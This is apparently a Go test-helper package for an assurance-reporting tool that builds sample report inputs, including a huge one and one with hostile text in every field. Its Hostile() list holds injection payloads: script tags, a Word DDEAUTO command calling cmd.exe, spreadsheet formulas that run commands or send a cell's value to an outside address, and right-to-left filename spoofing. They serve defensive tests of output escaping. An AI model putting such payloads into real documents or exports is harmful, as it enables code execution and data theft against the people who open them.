// Package reporttest makes reports for the tests of the writers: an ordinary
// one, an empty one, a huge one, and one with hostile text in every field.
package reporttest

import (
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"
	"time"

	"github.com/touchstone-assurance/touchstone/internal/domain/assessment"
	"github.com/touchstone-assurance/touchstone/internal/domain/civil"
	"github.com/touchstone-assurance/touchstone/internal/domain/framework"
	"github.com/touchstone-assurance/touchstone/internal/domain/portfolio"
	"github.com/touchstone-assurance/touchstone/internal/domain/report"
)

// Update is set to write goldens instead of comparing with them.
var Update = flag.Bool("update", false, "write the goldens")

// Golden compares got with testdata/name, or writes it with -update.
func Golden(t *testing.T, name string, got []byte) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if *Update {
		if err := os.MkdirAll("testdata", 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if string(want) != string(got) {
		t.Errorf("%s differs. Look at the difference; if it is meant, run the test with -update.\ngot %d bytes, want %d, first difference at byte %d", path, len(got), len(want), firstDifference(string(want), string(got)))
	}
}

func firstDifference(a, b string) int {
	for i := 0; i < min(len(a), len(b)); i++ {
		if a[i] != b[i] {
			return i
		}
	}
	return min(len(a), len(b))
}

// At returns noon UTC of a day as µs.
func At(day string) int64 {
	t, err := time.Parse(time.DateOnly, day)
	if err != nil {
		panic(err)
	}
	return t.Add(12 * time.Hour).UnixMicro()
}

// Framework has two groups, two scales and n requirements in each group.
func Framework(n int) *framework.Framework {
	f := &framework.Framework{ID: "example", Version: "1", Title: "Example questions", Short: "Example", Publisher: "Touchstone project", Alignment: framework.AlignedWith,
		Note: "Made for tests.", Source: framework.Source{Title: "A source", URL: "https://example.org/source"}, RollUp: framework.RollUp{Note: "Counts only."},
		Scales: []framework.Scale{
			{ID: "met", Levels: []framework.Level{{ID: "not_met", Label: "Not met"}, {ID: "partly_met", Label: "Partly met"}, {ID: "met", Label: "Met"}}},
			{ID: "yes", Levels: []framework.Level{{ID: "no", Label: "No"}, {ID: "yes", Label: "Yes"}}}},
		Sets: []framework.Set{{ID: "foundation", Title: "Foundation"}}}
	for g, name := range []string{"Understand", "Protect"} {
		group := framework.Group{ID: fmt.Sprintf("G%d", g+1), Title: name}
		for i := range n {
			r := framework.Requirement{ID: fmt.Sprintf("E-%d%02d", g+1, i+1), Title: fmt.Sprintf("Thing %d of %s", i+1, strings.ToLower(name)), Question: "Is it so?"}
			if g == 1 && i == n-1 {
				r.Scale = "yes"
			}
			group.Requirements = append(group.Requirements, r)
		}
		f.Groups = append(f.Groups, group)
	}
	return f
}

// Ordinary has every kind of answer, support and evidence.
func Ordinary() report.Input {
	f := Framework(5)
	in := report.Input{Framework: f, State: assessment.Shared, Zone: time.UTC, AsOf: At("2026-06-01"), Sample: true,
		Approval: report.ApprovalFacts{By: "usr_sro", At: At("2026-05-01"), OnBehalfOf: "Accountable person", Declaration: "I accept this with its gaps.\nThe second line stands apart."},
		Proof:    report.Proof{AuditIndex: 1234, Checkpoint: "touchstone/example\n1300\nAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=\n\n— touchstone/example AAAA\n", VerifierKeys: []string{"touchstone/example+00000000+AAAA"}},
		Names:    map[string]string{"usr_sro": "Signing person", "usr_a": "First author", "usr_b": "Second author"},
		Shares:   []report.ShareFact{{Recipient: "Assurance pool", Marking: "OFFICIAL-SENSITIVE", At: At("2026-05-01"), By: "usr_sro"}}}
	in.Frozen = frozen("asm_now", 7, f)
	in.Approval.Digest = digest(in.Frozen)
	in.Approval.Content, _ = in.Frozen.Canonical()
	in.Withdrawn = map[string]int64{"evd_4": At("2026-05-20")}
	in.Moves = []report.Move{
		{At: At("2026-05-10"), Assessment: "asm_now", Requirement: "E-102", Before: "met", BeforeHeld: assessment.Documented, After: "met", AfterHeld: assessment.Stale, Why: "Support fell from documented to stale. Evidence “Plan” ran out."},
		{At: At("2026-04-01"), Assessment: "asm_now", Requirement: "E-101", Before: "unanswered", BeforeHeld: assessment.Asserted, After: "met", AfterHeld: assessment.Documented, Why: "The answer changed from unanswered to met."}}
	for i, day := range []string{"2025-08-01", "2025-11-01", "2026-02-01"} {
		z := frozen(fmt.Sprintf("asm_%d", i), 3, f)
		for j := range z.Responses {
			if j > 2*i+2 {
				z.Responses[j].Kind, z.Responses[j].Level, z.Responses[j].Support = assessment.AtLevel, lowest(f, z.Responses[j].Requirement), assessment.Asserted
			}
		}
		z.Gap = assessment.Gap{Claims: 2*i + 3, Unsupported: 2}
		in.Earlier = append(in.Earlier, report.Earlier{Frozen: z, Framework: f, ApprovedAt: At(day), Digest: digest(z)})
	}
	return in
}

func lowest(f *framework.Framework, id string) string {
	r, _ := f.Requirement(id)
	return f.LevelsOf(r)[0].ID
}

func digest(f assessment.Frozen) string {
	_, d, err := f.Digest()
	if err != nil {
		panic(err)
	}
	return d
}

func frozen(id string, version int64, f *framework.Framework) assessment.Frozen {
	official := portfolio.Marking{Tier: portfolio.Official, Handling: portfolio.Sensitive}
	z := assessment.Frozen{Format: assessment.FrozenFormat, Assessment: id, Version: version, Organisation: "Example organisation", Marking: official,
		System: assessment.FrozenSystem{ID: "sys_1", Name: "Example system", Kind: "service", Scope: "Everything behind the front door.\nNot the building.", Stage: "in_service",
			Classification: portfolio.Marking{Tier: portfolio.Official}, Exposure: "public", Personal: true},
		Framework: assessment.FrozenFramework{Key: f.Key(), Title: f.Title, Publisher: f.Publisher, SHA256: strings.Repeat("ab", 32)},
		Scope:     assessment.FrozenScope{Set: "foundation", Stage: "in_service", Larger: true, Reason: "The other set fits less well."},
		Roles: []assessment.FrozenRole{{Role: "sro", User: "usr_sro", Name: "Signing person", OnBehalfOf: "apt_1", From: "2026-01-01"},
			{Role: "dtsl", User: "usr_a", Name: "First author", From: "2025-01-01", To: "2026-12-31"}}}
	at := At("2026-04-15")
	for i, e := range []struct {
		title, produced, until string
		held                   bool
	}{{"Risk assessment", "2026-03-01", "2027-03-01", false}, {"Plan", "2025-05-09", "2026-05-09", false}, {"Test report", "2026-01-10", "2026-06-20", false}, {"Design record", "2026-02-02", "", true}} {
		fe := assessment.FrozenEvidence{ID: fmt.Sprintf("evd_%d", i+1), Kind: []string{"document", "test_report"}[i/2], Title: e.title, Version: fmt.Sprint(i + 1), ProducedOn: civil.Date(e.produced),
			ValidUntil: civil.Date(e.until), Marking: portfolio.Marking{Tier: portfolio.Official}, Link: "https://example.org/" + fmt.Sprint(i+1), Place: "Section 2"}
		if e.held {
			fe.Link, fe.Held = "", &assessment.FrozenHeld{Reference: "REF-1", Marking: portfolio.Marking{Tier: portfolio.Secret}, Custodian: "The registry", SeenBy: "First author", SeenOn: "2026-03-03"}
		}
		z.Evidence = append(z.Evidence, fe)
	}
	supports := []assessment.Support{assessment.Documented, assessment.Stale, assessment.Confirmed, assessment.Verified, assessment.Asserted, assessment.Contradicted, assessment.Unassessed}
	for i, r := range f.Requirements() {
		z.Scope.Requirements = append(z.Scope.Requirements, r.ID)
		levels := assessment.LevelIDs(f, r)
		resp := assessment.FrozenResponse{Requirement: r.ID, Kind: assessment.AtLevel, Level: levels[len(levels)-1], Rationale: "Because it is so.\nAnd it was looked at.", Author: "usr_a", At: at, Version: 2,
			Support: supports[i%len(supports)], PartlyChecked: i == 0, Since: at, Because: []assessment.Cause{{Kind: assessment.ByClaim, At: at, Text: "A sentence that says why."}}}
		switch i {
		case 0, 1, 3:
			resp.Evidence = []string{z.Evidence[i].ID, "evd_3"}
		case 7:
			resp.Kind, resp.Level, resp.Support, resp.FindOutBy, resp.Delegate = assessment.DontKnow, "", assessment.Asserted, "2026-05-15", "usr_b"
		case 8:
			resp.Kind, resp.Level, resp.Rationale, resp.NAReason = assessment.NotApplicable, "", "", "There is no such part."
		case 9:
			resp.Level = levels[0]
		}
		z.Responses = append(z.Responses, resp)
	}
	z.Gap = assessment.Gap{Claims: 7, Unsupported: 4}
	return z
}

// Empty has no question, no evidence and no history.
func Empty() report.Input {
	return report.Input{Framework: Framework(1), State: assessment.Approved, AsOf: At("2026-06-01"), Proof: report.Proof{AuditIndex: -1},
		Frozen: assessment.Frozen{Assessment: "asm_empty", System: assessment.FrozenSystem{Name: "Empty system"}}}
}

// Huge has 106 requirements, 500 evidence records, 400 moves and 12 approvals
// before it.
func Huge() report.Input {
	in := Ordinary()
	f := Framework(53)
	in.Framework, in.Frozen = f, frozen("asm_huge", 9, f)
	model := in.Frozen.Evidence[0]
	for i := range 496 {
		e := model
		e.ID, e.Title = fmt.Sprintf("evd_x%03d", i), fmt.Sprintf("Record %d", i)
		in.Frozen.Evidence = append(in.Frozen.Evidence, e)
		r := &in.Frozen.Responses[i%106]
		r.Evidence = append(r.Evidence, e.ID)
	}
	for i := range 400 {
		in.Moves = append(in.Moves, report.Move{At: At("2026-01-01") + int64(i)*3_600_000_000, Requirement: "E-101", Before: "met", After: "met", BeforeHeld: assessment.Documented, AfterHeld: assessment.Stale, Why: "It moved."})
	}
	for i := range 9 {
		e := in.Earlier[0]
		e.ApprovedAt -= int64(i+1) * 90 * 86_400_000_000
		in.Earlier = append(in.Earlier, e)
	}
	in.Approval.Digest = digest(in.Frozen)
	in.Approval.Content, _ = in.Frozen.Canonical()
	return in
}

// Hostile lists texts that mean harm to one reader or another.
func Hostile() []string {
	return []string{
		`<script>alert("canary")</script><img src=x onerror=alert(1)>`,
		`"><svg onload=alert(1)><style>*{display:none}</style>`,
		`]]></w:t><w:instrText>DDEAUTO c:\\windows\\system32\\cmd.exe</w:instrText>`,
		`=HYPERLINK("http://192.0.2.1/?"&A1,"x")`, "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\n=1+1", "＝1+1", "=cmd|' /C calc'!A0",
		"\u202Egnp.exe\u202C \u2067right to left\u2069 \u200F", "javascript:alert(1)", "{{.Secret}} ${x} &#x3c;script&#x3e; &amp;",
		"</title></style></pre><!-- --><![CDATA[", strings.Repeat("long text ", 2000), strings.Repeat("x", 20_000),
		"'quoted", "emoji \U0001F512 and \uFFFD", "_x0041_", "a\nb\tc",
	}
}

// WithHostileText puts hostile text into every text of the report: s into all
// those whose type is plain string.
func WithHostileText(a report.Assessment, s string) report.Assessment {
	poison(reflect.ValueOf(&a).Elem(), s)
	a.Schema = report.Schema
	return a
}

func poison(v reflect.Value, s string) {
	switch v.Kind() {
	case reflect.String:
		if v.CanSet() && v.Type() == reflect.TypeFor[string]() {
			v.SetString(s)
		}
	case reflect.Struct:
		if v.Type() == reflect.TypeFor[time.Time]() {
			return
		}
		for i := range v.NumField() {
			poison(v.Field(i), s)
		}
	case reflect.Slice:
		for i := range v.Len() {
			poison(v.Index(i), s)
		}
	}
}

// List is a list for exports with the cells given, one row each.
func List(cells []string) report.List {
	return report.List{Name: "systems", Marking: "OFFICIAL", Banner: report.SampleData, AsOf: "1 June 2026", Columns: []string{"Name", "Stage"},
		Rows: func(yield func([]string, error) bool) {
			for _, c := range cells {
				if !yield([]string{c, "in service"}, nil) {
					return
				}
			}
		}}
}
